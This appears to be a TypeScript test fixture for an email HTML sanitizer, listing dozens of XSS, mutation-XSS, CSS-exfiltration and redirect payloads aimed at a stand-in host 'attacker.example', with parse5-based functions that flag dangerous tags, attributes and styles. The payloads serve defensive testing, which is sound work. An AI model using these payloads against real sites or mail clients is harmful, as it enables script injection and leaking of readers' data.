/** HTML that tries to run, load, send or lead somewhere when an email is shown, and what finds it in HTML. */
import { type DefaultTreeAdapterTypes, parse } from "parse5";

/** Where what breaks out would go. */
const AWAY = "https://attacker.example";
const RUN = "window.top.postMessage('ran','*');document.title='ran'";

const PIECES: readonly (readonly [what: string, ...html: string[]])[] = [
  ["a script", `<script>${RUN}</script>`],
  ["a script of another host", `<script src="${AWAY}/x.js"></script><script type=module src=${AWAY}/m.js></script>`],
  ["a script with a slash for a space", `<script/x>${RUN}</script/x>`],
  ["a script in a script", `<scr<script>ipt>${RUN}</scr</script>ipt>`],
  [
    "event attributes",
    `<img src=x onerror="${RUN}"><body onload="${RUN}"><p onclick=${RUN} onmouseover='${RUN}'>x</p>`,
  ],
  [
    "event attributes behind odd separators",
    `<img/src=x/onerror=${RUN}><img src=x\u000conerror=${RUN}><svg/onload=${RUN}>`,
  ],
  ["autofocus", `<input autofocus onfocus="${RUN}"><a autofocus tabindex=1 onfocus="${RUN}" href=#>x</a>`],
  ["a toggled element", `<details open ontoggle="${RUN}"><summary>x</summary></details>`],
  ["an animated element", `<style>@keyframes a{}</style><p style="animation:a 1s" onanimationstart="${RUN}">x</p>`],
  ["javascript: in a link", `<a href="javascript:${RUN}">x</a><area href='javascript:${RUN}'>`],
  [
    "javascript: with entities",
    `<a href="&#106;&#x61;vascript&colon;${RUN}">x</a><a href="jav&#x09;ascript:${RUN}">y</a>`,
  ],
  [
    "javascript: with white space and controls",
    `<a href="\u0001 java\nscript:${RUN}">x</a><a href=" \tJaVaScRiPt:${RUN}">y</a>`,
  ],
  ["javascript: in pictures", `<img src="javascript:${RUN}"><table background="javascript:${RUN}"><tr><td>x</table>`],
  ["vbscript: and data: in links", `<a href="vbscript:x">x</a><a href="data:text/html,<script>${RUN}</script>">y</a>`],
  [
    "a picture that is a document",
    `<img src="data:image/svg+xml,<svg xmlns='http://www.w3.org/2000/svg' onload='${RUN}'/>">`,
  ],
  ["a drawing", `<svg><script>${RUN}</script><a xlink:href="javascript:${RUN}"><text y=9>x</text></a></svg>`],
  [
    "an animation of a link",
    `<svg><a><animate attributeName=href values="javascript:${RUN}"/><text y=9>x</text></a></svg>`,
  ],
  [
    "a drawing's use",
    `<svg><use href="${AWAY}/x.svg#a"/><image href="${AWAY}/x.png"/><feImage href="${AWAY}/y.png"/>`,
    `</svg>`,
  ],
  [
    "a drawing's document",
    `<svg><foreignObject><iframe src="${AWAY}"></iframe><body onload="${RUN}"></foreignObject></svg>`,
  ],
  [
    "mutation by a style in MathML",
    `<math><mtext><table><mglyph><style><!--</style><img title="--&gt;&lt;img src=1 `,
    `onerror=${RUN}&gt;">`,
  ],
  ["mutation by a form in MathML", `<form><math><mtext></form><form><mglyph><style></math><img src onerror=${RUN}>`],
  ["mutation by a title in SVG", `<svg></p><style><a id="</style><img src=1 onerror=${RUN}>">`],
  [
    "mutation by an annotation",
    `<math><annotation-xml encoding="text/html"><xmp><img src=1 onerror=${RUN}></xmp></math>`,
  ],
  [
    "text that ends a style sheet",
    `<style>p{color:red}</sty\u0000le><img src=x onerror=${RUN}></style><svg><style>&lt;/style>&lt;img `,
    `src=x onerror=${RUN}></style></svg>`,
  ],
  [
    "a template",
    `<template><script>${RUN}</script><img src=${AWAY}/t.png></template><div><template `,
    `shadowrootmode=open><script>${RUN}</script></template></div>`,
  ],
  [
    "noscript",
    `<noscript><p title="</noscript><img src=x onerror=${RUN}>"></noscript><noscript><style></noscript>`,
    `<img src=x onerror=${RUN}>`,
  ],
  [
    "text that becomes markup",
    `<xmp><script>${RUN}</script></xmp><textarea></textarea><script>${RUN}</script><title><img src=x `,
    `onerror=${RUN}></title><plaintext><script>${RUN}</script>`,
  ],
  [
    "comments",
    `<!--><script>${RUN}</script>--><!-- --!><img src=x onerror=${RUN}> --><!--[if IE]>`,
    `<script>${RUN}</script><![endif]--><!--<img src="--><img src=x onerror=${RUN}//">`,
  ],
  [
    "conditional comments",
    `<!--[if gte mso 9]><xml><script>${RUN}</script></xml><![endif]--><![if !mso]>`,
    `<script>${RUN}</script><![endif]>`,
  ],
  [
    "CDATA",
    `<![CDATA[<script>${RUN}</script>]]><svg><![CDATA[><img src=x onerror=${RUN}>]]></svg>`,
    `<?xml-stylesheet href="javascript:${RUN}"?>`,
  ],
  [
    "meta refresh",
    `<meta http-equiv=refresh content="0;url=${AWAY}"><meta http-equiv="refresh" `,
    `content="0;javascript:${RUN}">`,
  ],
  [
    "a policy, a cookie and a character set by meta",
    `<meta http-equiv="Content-Security-Policy" content="script-src *"><meta http-equiv=set-cookie `,
    `content=a=b><meta charset=utf-7>`,
  ],
  ["UTF-7", `<meta charset="utf-7">+ADw-script+AD4-${RUN}+ADw-/script+AD4-`],
  ["a base", `<base href="${AWAY}/" target=_top><a href="x">x</a><img src="y.png">`],
  [
    "forms",
    `<form action="${AWAY}" method=post><input name=q value=1><button `,
    `formaction="${AWAY}/b">Go</button><input type=image src=${AWAY}/i.png></form>`,
  ],
  [
    "a form that sends itself",
    `<form id=f action="${AWAY}"><input type=submit autofocus onfocus=f.submit()></form><button `,
    `form=f>x</button><isindex action=${AWAY}>`,
  ],
  [
    "links out of the frame",
    `<a href="${AWAY}" target=_top>x</a><a href="${AWAY}" target=_parent>y</a><a href=${AWAY} `,
    `target=_blank ping=${AWAY}/ping rel=opener download>z</a>`,
  ],
  [
    "nested frames",
    `<iframe src="${AWAY}"></iframe><iframe srcdoc="<script>${RUN}</script>"></iframe><iframe `,
    `src="javascript:${RUN}"></iframe>`,
  ],
  ["a page of frames", `<frameset onload="${RUN}"><frame src="${AWAY}"><frame src="javascript:${RUN}"></frameset>`],
  [
    "objects",
    `<object data="${AWAY}"><param name=movie value=${AWAY}></object><embed src="${AWAY}/x.swf">`,
    `<applet code=${AWAY}></applet><object data="data:text/html,<script>${RUN}</script>"></object>`,
  ],
  [
    "fenced frames and portals",
    `<portal src="${AWAY}"></portal><fencedframe config="${AWAY}"></fencedframe><webview src=${AWAY}>`,
    `</webview>`,
  ],
  [
    "loads before anything is shown",
    `<link rel=preload href="${AWAY}/p" as=image><link rel=dns-prefetch href="//attacker.example">`,
    `<link rel=preconnect href="${AWAY}"><link rel=prefetch href="${AWAY}/f"><link rel=stylesheet `,
    `href="${AWAY}/s.css"><link rel=manifest href=${AWAY}/m><link rel=icon href=${AWAY}/i><link `,
    `rel=import href=${AWAY}/h>`,
  ],
  [
    "media",
    `<video src="${AWAY}/v.mp4" poster="${AWAY}/p.png" autoplay onplay="${RUN}"></video><audio `,
    `src=${AWAY}/a.mp3 autoplay></audio><video><source src=${AWAY}/s.mp4 onerror="${RUN}"><track `,
    `src=${AWAY}/t.vtt></video>`,
  ],
  [
    "pictures of several sizes",
    `<picture><source srcset="${AWAY}/a.png"><img srcset="${AWAY}/b.png 2x" src="${AWAY}/c.png" `,
    `lowsrc=${AWAY}/d.png longdesc=${AWAY}/e></picture>`,
  ],
  [
    "imported styles",
    `<style>@import "${AWAY}/a.css";@import url(${AWAY}/b.css);@im\\70ort '${AWAY}/c.css';`,
    `@namespace url(${AWAY})</style>`,
  ],
  [
    "addresses in styles",
    `<style>p{background:url(${AWAY}/a.png)}b{background:u\\72l("${AWAY}/b.png")}`,
    `i{background:\\75\\000052 \\4c('${AWAY}/c.png')}`,
    `@font-face{font-family:a;src:url(${AWAY}/d.woff)}</style>`,
    `<p style="background:url('${AWAY}/e.png');font-family:a">x <b>y</b> <i>z</i></p>`,
  ],
  [
    "addresses in styles by other functions",
    `<p style="background-image:image-set('${AWAY}/a.png' 1x)">x</p>`,
    `<p style='background-image:-webkit-image-set("${AWAY}/b.png" 1x);`,
    `cursor:url(${AWAY}/c.cur),auto;list-style:url(${AWAY}/d.png);content:url(${AWAY}/e.png)'>y</p>`,
  ],
  [
    "an address that a comment parts",
    `<style>p{background:url/**/(${AWAY}/a.png);background:/*url(*/url(${AWAY}/b.png)}</style><p>x</p>`,
  ],
  [
    "styles that old browsers ran",
    `<p style="width:expression(${RUN});`,
    `behavior:url(${AWAY}/x.htc);-moz-binding:url(${AWAY}/x.xml#a)">x</p>`,
  ],
  [
    "styles that read what is on the page",
    `<style>a[href^="#waxseal"]{background:url(${AWAY}/leak)}</style><a `,
    `href="https://shop.example/">x</a>`,
  ],
  [
    "names of the page's own",
    `<p id="waxseal-link-00000000">x</p><img name=waxseal-note-1><form id=waxseal><input `,
    `name=attributes><input name=childNodes></form>`,
  ],
  [
    "a link of the page's own",
    `<a href="#waxseal-link-x onclick=${RUN}">x</a><a href='#waxseal-link-"><img src=x `,
    `onerror=${RUN}>'>y</a>`,
  ],
  ["a thousand elements that nobody closes", "<b><i><font color=red><div>".repeat(60)],
  [
    "a translated page",
    `<p translate=no contenteditable accesskey=x tabindex=1 is=x-y slot=a part=b `,
    `popovertarget=p popover>x</p><dialog open>y</dialog>`,
  ],
  [
    "pictures behind elements",
    `<body background="${AWAY}/a.png"><table background="${AWAY}/b.png"><tr background="${AWAY}/c.png"><td `,
    `background="${AWAY}/d.png">x</table><bgsound src="${AWAY}/e.wav"><image src="${AWAY}/f.png"><marquee `,
    `onstart="${RUN}">x</marquee><keygen autofocus onfocus="${RUN}">`,
  ],
  [
    "Office's drawings",
    `<!--[if mso]><v:rect xmlns:v="urn:schemas-microsoft-com:vml"><v:fill src="${AWAY}/a.png"/></v:rect>`,
    `<![endif]--><v:background fill="t"><v:fill type="tile" src="${AWAY}/b.png"/></v:background><v:imagedata `,
    `src="${AWAY}/c.png"/><o:p href="javascript:${RUN}">x</o:p>`,
  ],
  [
    "addresses that pass through variables and newer properties",
    `<style>:root{--a:url(${AWAY}/a.png)}p{background:var(--a)}p::before{content:url(${AWAY}/b.png)}`,
    `@media all{@supports (color:red){b{mask:url(${AWAY}/c.svg#m);background:src("${AWAY}/d.png")}}}`,
    `i{filter:url(${AWAY}/e.svg#f);border-image:url(${AWAY}/f.png) 1;background:cross-fade(url(${AWAY}/g.png),red)}`,
    `</style><p style="clip-path:url(${AWAY}/h.svg#c);shape-outside:url(${AWAY}/i.png)">x <b>y</b> <i>z</i></p>`,
  ],
  [
    "addresses without a scheme, and with odd slashes",
    `<a href="//attacker.example/a">x</a><a href="/\\attacker.example/b">y</a><a href="https:attacker.example/c">z</a>`,
    `<img src="//attacker.example/d.png"><img src="\\\\attacker.example/e.png"><img `,
    `src="https:/attacker.example/f.png"><a href="?x#waxseal">u</a>`,
    `<blockquote cite="${AWAY}/g"><q cite="${AWAY}/h">v</q></blockquote>`,
  ],
  ["speculation", `<script type=speculationrules>{"prefetch":[{"source":"list","urls":["${AWAY}"]}]}</script>`],
];

export const ATTACKS: readonly (readonly [what: string, html: string])[] = PIECES.map(([what, ...html]) => [
  what,
  html.join(""),
]);

/** Each does something by itself, or its text is not read as HTML. `style` is read on its own. */
const ACTIVE =
  /^(?:script|noscript|template|iframe|frame|frameset|object|embed|applet|param|portal|fencedframe|webview|link|meta|base|form|input|button|select|textarea|svg|math|video|audio|source|track|title|xmp|plaintext|noembed|noframes|isindex|dialog|.*-.*)$/;
const LEADING =
  /^(?:on.*|srcdoc|srcset|formaction|action|target|ping|data|code|poster|longdesc|lowsrc|autofocus|http-equiv|tabindex|is|slot|part|popover.*|contenteditable|accesskey|xlink:href)$/;

/** What in HTML could run, load, send or lead somewhere, as a browser would read it; pictures' addresses aside. */
export function dangersIn(html: string): readonly string[] {
  const found: string[] = [];
  const visit = (node: DefaultTreeAdapterTypes.Node): void => {
    if (node.nodeName === "#comment") found.push("a comment");
    if ("tagName" in node) found.push(...dangersOf(node));
    if ("childNodes" in node) for (const child of node.childNodes) visit(child);
  };
  visit(parse(html, { scriptingEnabled: false }));
  return found;
}

function dangersOf({ tagName, attrs, childNodes, namespaceURI }: DefaultTreeAdapterTypes.Element): readonly string[] {
  const css = tagName === "style" ? childNodes.map((child) => ("value" in child ? child.value : "")).join("") : "";
  return [
    ...(ACTIVE.test(tagName) || !namespaceURI.endsWith("/xhtml") ? [`<${tagName}>`] : []),
    ...attrs.filter(({ name }) => LEADING.test(name)).map(({ name }) => `${tagName} ${name}`),
    ...attrs
      .filter(({ name, value }) => name === "href" && !/^#waxseal-[\w.:-]+$/.test(value))
      .map(({ value }) => value),
    ...attrs
      .filter(({ value }) => /^[\0- ]*(?:java|vb)script:|^[\0- ]*data:(?!image\/(?!svg))/i.test(value))
      .map(({ value }) => value),
    ...[css, ...attrs.filter(({ name }) => name === "style").map(({ value }) => value)].filter((style) =>
      /@import|@namespace|expression\(|-moz-binding|behavior:|image-set\(|\\[0-9]*7|<|javascript:/i.test(style),
    ),
  ];
}

/** The addresses that HTML's pictures have, in attributes and in styles. */
export function picturesIn(html: string): readonly string[] {
  return Array.from(
    html.matchAll(/\s(?:src|background)="([^"]*)"|url\(([^)]*)\)/gi),
    ([, address, inStyle]) => address ?? inStyle ?? "",
  );
}
